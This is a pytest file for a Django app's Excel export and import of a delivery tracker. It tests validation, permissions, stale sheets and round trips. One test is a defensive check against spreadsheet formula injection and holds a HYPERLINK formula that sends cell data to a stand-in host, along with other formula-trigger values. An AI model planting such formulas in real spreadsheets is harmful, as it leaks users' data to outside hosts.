"""The Excel round trip: export, fill in, import; one bad row means nothing is imported."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from sendplan.audit.models import AuditEntry
from sendplan.core.commands import UsageError
from sendplan.delivery import excel, services
from sendplan.delivery.models import Update

pytestmark = pytest.mark.django_db


def _export(world, who="manager"):
    return load_workbook(excel.export_tracker(user=world.users[who], plan=world.plan))


def _column(ws, name):
    return excel.HEADERS.index(name) + 1


def _save(wb) -> io.BytesIO:
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    return out


def _fill(ws, row, **values):
    for name, value in values.items():
        ws.cell(row=row, column=_column(ws, name), value=value)


def test_export_lists_every_action_with_owner_and_status(world):
    services.update_create(user=world.users["lead"], action=world.own, period_key=services.current_month_key(),
                           status="at_risk", percent_complete=25)  # fmt: skip
    ws = _export(world)[excel.SHEET]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == excel.HEADERS
    by_ref = {r[0]: dict(zip(excel.HEADERS, r, strict=True)) for r in rows[1:]}
    assert set(by_ref) == {"1a", "1b"}
    assert by_ref["1a"]["Lead organisation"] == "City Council" and by_ref["1a"]["Latest status"] == "At risk"
    assert by_ref["1a"]["Version"] == 1 and by_ref["1b"]["Lead organisation"] == "The ICB"


def test_round_trip_creates_and_changes_updates(world):
    existing = services.update_create(user=world.users["lead"], action=world.own,
                                      period_key=services.current_month_key(), status="at_risk")  # fmt: skip
    wb = _export(world)
    ws = wb[excel.SHEET]
    _fill(ws, 2, Status="On track", **{"Percent complete": 60, "Progress": "Recovered"})
    _fill(ws, 3, Status="off_track", **{"Percent complete": 10, "Risks and issues": "Staffing"})
    result = excel.import_updates(user=world.users["manager"], plan=world.plan, file=_save(wb))
    assert result.errors == [] and (result.created, result.changed) == (1, 1)
    existing.refresh_from_db()
    assert (existing.status, existing.percent_complete, existing.narrative) == ("on_track", 60, "Recovered")
    assert world.other.updates.get().risks == "Staffing"
    assert AuditEntry.objects.filter(source="import", object_type="delivery.update").count() == 2
    again = excel.import_updates(user=world.users["manager"], plan=world.plan, file=_save(_export(world)))
    assert again.errors == [] and (again.created, again.changed, again.unchanged) == (0, 0, 2)


@pytest.mark.parametrize(
    "bad, message",
    [
        ({"Status": "Sideways"}, "Status “Sideways” is not one of"),
        ({"Percent complete": 140}, "between 0 and 100"),
        ({"Percent complete": "lots"}, "is not a number"),
        ({"Period": "2001-01"}, "not open"),
        ({"Ref": "9z"}, "no action 9z"),
    ],
)
def test_one_bad_row_imports_nothing(world, bad, message):
    wb = _export(world)
    ws = wb[excel.SHEET]
    _fill(ws, 2, Status="On track", **{"Percent complete": 50})
    _fill(ws, 3, **{"Status": "On track", "Percent complete": 50, **bad})
    before = AuditEntry.objects.count()
    result = excel.import_updates(user=world.users["manager"], plan=world.plan, file=_save(wb))
    assert len(result.errors) == 1 and result.errors[0].startswith("Row 3: ") and message in result.errors[0]
    assert not Update.objects.exists() and AuditEntry.objects.count() == before


def test_rows_for_another_organisation_are_refused_for_a_lead(world):
    wb = _export(world, "lead")
    ws = wb[excel.SHEET]
    _fill(ws, 2, Status="On track")
    _fill(ws, 3, Status="On track")
    result = excel.import_updates(user=world.users["lead"], plan=world.plan, file=_save(wb))
    assert result.errors == [
        "Row 3: you cannot write updates for action 1b: leave its row as exported or clear it"
    ]
    assert not Update.objects.exists()


def test_stale_sheet_is_refused(world):
    update = services.update_create(user=world.users["lead"], action=world.own,
                                    period_key=services.current_month_key())  # fmt: skip
    wb = _export(world)
    services.update_change(user=world.users["lead"], update=update, version=update.version, narrative="newer")
    _fill(wb[excel.SHEET], 2, Status="Complete")
    result = excel.import_updates(user=world.users["manager"], plan=world.plan, file=_save(wb))
    assert "changed since this sheet was exported" in result.errors[0]


def test_not_a_workbook(world):
    result = excel.import_updates(user=world.users["manager"], plan=world.plan, file=io.BytesIO(b"hello"))
    assert result.errors == ["The file is not an Excel .xlsx workbook"]


def test_web_round_trip_lists_row_errors(client, world, parse_html):
    client.force_login(world.users["manager"])
    response = client.get(reverse("delivery:tracker-export", args=[world.plan.slug]))
    assert response["Content-Type"] == excel.XLSX_MIME
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    _fill(wb[excel.SHEET], 2, Status="On track")
    _fill(wb[excel.SHEET], 3, Status="Bad")
    url = reverse("delivery:tracker-import", args=[world.plan.slug])
    upload = SimpleUploadedFile("t.xlsx", _save(wb).getvalue())
    page = client.post(url, {"file": upload})
    parse_html(page)
    assert "Row 3: Status “Bad”" in page.content.decode() and not Update.objects.exists()
    _fill(wb[excel.SHEET], 3, Status="At risk")
    response = client.post(url, {"file": SimpleUploadedFile("t.xlsx", _save(wb).getvalue())})
    assert response.status_code == 302 and Update.objects.count() == 2


def test_cli_round_trip(world, tmp_path):
    path = tmp_path / "tracker.xlsx"
    call_command(
        "tracker", "export", str(path), "--plan", world.plan.slug, "--user", "lead", stdout=io.StringIO()
    )
    wb = load_workbook(path)
    _fill(wb[excel.SHEET], 2, Status="On track")
    _fill(wb[excel.SHEET], 3, Status="On track")
    wb.save(path)
    with pytest.raises(UsageError, match="nothing imported: Row 3"):
        call_command("tracker", "import", str(path), "--plan", world.plan.slug, "--user", "lead")
    _fill(wb[excel.SHEET], 3, Status="", Period="")
    wb.save(path)
    out = io.StringIO()
    call_command("tracker", "import", str(path), "--plan", world.plan.slug, "--user", "lead", stdout=out)
    assert "1 updates added" in out.getvalue()


def _state():
    from django.core import serializers

    return serializers.serialize("json", [*Update.objects.order_by("pk"), *AuditEntry.objects.order_by("pk")])


@pytest.fixture
def written(world):
    """A submitted update of the council's action (with web line endings) and an approved one of the ICB's."""
    key = services.current_month_key()
    own = services.update_create(
        user=world.users["lead"], action=world.own, period_key=key, status="at_risk", percent_complete=40,
        narrative="Line one\r\nLine two", risks="- staff\n- money", submit=True,
    )  # fmt: skip
    other = services.update_create(
        user=world.users["icb_lead"], action=world.other, period_key=key, status="on_track", submit=True
    )
    other = services.update_approve(user=world.users["manager"], update=other)
    return {"own": own, "other": other}


@pytest.mark.parametrize("who", ["lead", "contributor", "manager", "viewer", "icb_lead"])
def test_importing_an_unchanged_export_changes_nothing(world, written, who):
    before = _state()
    result = excel.import_updates(user=world.users[who], plan=world.plan, file=_save(_export(world, who)))
    assert result.errors == []
    assert (result.created, result.changed, result.unchanged) == (0, 0, 2)
    assert _state() == before


def test_unchanged_export_of_a_plan_without_updates_imports_nothing(world):
    result = excel.import_updates(user=world.users["manager"], plan=world.plan, file=_save(_export(world)))
    assert result.errors == [] and (result.created, result.changed, result.unchanged) == (0, 0, 0)
    assert not Update.objects.exists()


def test_changing_one_allowed_row_writes_exactly_that_update(world, written):
    wb = _export(world, "lead")
    _fill(wb[excel.SHEET], 2, **{"Next steps": "Recruit two officers"})
    approved_before = Update.objects.get(pk=written["other"].pk).version
    result = excel.import_updates(user=world.users["lead"], plan=world.plan, file=_save(wb))
    assert result.errors == [] and (result.created, result.changed, result.unchanged) == (0, 1, 1)
    own = Update.objects.get(pk=written["own"].pk)
    assert own.next_steps == "Recruit two officers" and own.version == written["own"].version + 1
    assert own.narrative.replace("\r\n", "\n") == "Line one\nLine two" and own.status == "at_risk"
    assert Update.objects.get(pk=written["other"].pk).version == approved_before
    assert AuditEntry.objects.filter(source="import").count() == 1


@pytest.mark.parametrize(
    "who, row, change, message",
    [
        ("lead", 3, {"Progress": "Sneaky"}, "Row 3: you cannot write updates for action 1b"),
        ("contributor", 3, {"Status": "Off track"}, "Row 3: you cannot write updates for action 1b"),
        ("manager", 3, {"Percent complete": 90}, "Row 3: the "),
        ("icb_lead", 2, {"Risks and issues": ""}, "Row 2: you cannot write updates for action 1a"),
    ],
)
def test_a_forbidden_change_is_refused_and_nothing_is_written(world, written, who, row, change, message):
    wb = _export(world, who)
    if who != "icb_lead":  # beside an allowed change, which is not imported either
        _fill(wb[excel.SHEET], 2, **{"Progress": "An allowed change"})
    _fill(wb[excel.SHEET], row, **change)
    before = _state()
    result = excel.import_updates(user=world.users[who], plan=world.plan, file=_save(wb))
    assert len(result.errors) == 1 and result.errors[0].startswith(message), result.errors
    if who == "manager":
        assert "approved and locked" in result.errors[0]
    assert _state() == before


def test_free_text_is_exported_as_text_and_read_back_unchanged(world):
    from sendplan.plans.models import ActionItem

    ActionItem.objects.filter(action=world.own, section="what").update(text="=1+1 and more")
    formula = '=HYPERLINK("http://x/?"&A1,"Click")'
    update = services.update_create(
        user=world.users["lead"], action=world.own, period_key=services.current_month_key(), status="on_track",
        narrative=formula, risks="+44 risk", next_steps="@here\tthen",
    )  # fmt: skip
    ws = _export(world)[excel.SHEET]
    cells = {
        name: ws.cell(row=2, column=_column(ws, name)) for name in ["Action", "Progress", "Risks and issues"]
    }
    assert [c.data_type for c in cells.values()] == ["s", "s", "s"]
    assert cells["Progress"].value == formula and cells["Action"].value == "=1+1 and more"
    assert cells["Progress"].quotePrefix and cells["Risks and issues"].quotePrefix
    result = excel.import_updates(user=world.users["lead"], plan=world.plan, file=_save(ws.parent))
    assert result.errors == [] and result.unchanged == 1 and result.changed == 0
    _fill(ws, 2, Status="Complete")
    _plain = excel._plain_text  # the edited sheet keeps its text cells as text
    for cell in ws[2]:
        _plain(cell)
    result = excel.import_updates(user=world.users["lead"], plan=world.plan, file=_save(ws.parent))
    assert result.errors == [] and result.changed == 1
    update.refresh_from_db()
    assert (update.narrative, update.risks, update.next_steps) == (formula, "+44 risk", "@here\tthen")


@pytest.mark.parametrize("subcommand", ["export", "import"])
def test_cli_unusable_path_is_a_one_line_error(world, tmp_path, subcommand):
    path = tmp_path / "missing-dir" / "t.xlsx" if subcommand == "export" else tmp_path
    with pytest.raises(UsageError, match=str(path.parent if subcommand == "export" else path)):
        call_command("tracker", subcommand, str(path), "--plan", world.plan.slug, "--user", "lead")


def test_cli_unchanged_round_trip_reports_nothing_changed(world, written, tmp_path):
    path = tmp_path / "t.xlsx"
    args = [str(path), "--plan", world.plan.slug, "--user", "lead"]
    call_command("tracker", "export", *args, stdout=io.StringIO())
    out = io.StringIO()
    call_command("tracker", "import", *args, stdout=out)
    assert out.getvalue().strip() == "0 updates added, 0 changed, 2 unchanged"


def test_web_import_of_an_unchanged_download_changes_nothing(client, world, written):
    client.force_login(world.users["manager"])
    response = client.get(reverse("delivery:tracker-export", args=[world.plan.slug]))
    before = _state()
    upload = SimpleUploadedFile("t.xlsx", b"".join(response.streaming_content))
    response = client.post(
        reverse("delivery:tracker-import", args=[world.plan.slug]), {"file": upload}, follow=True
    )
    assert "0 updates added, 0 changed, 2 unchanged" in response.content.decode()
    assert _state() == before


def test_the_latest_period_is_in_words(world, written):
    import datetime

    ws = _export(world)[excel.SHEET]
    words = f"{datetime.date.fromisoformat(services.current_month_key() + '-01'):%B %Y}"
    assert ws.cell(row=2, column=_column(ws, "Latest period")).value == words
    assert ws.cell(row=2, column=_column(ws, "Period")).value == services.current_month_key()
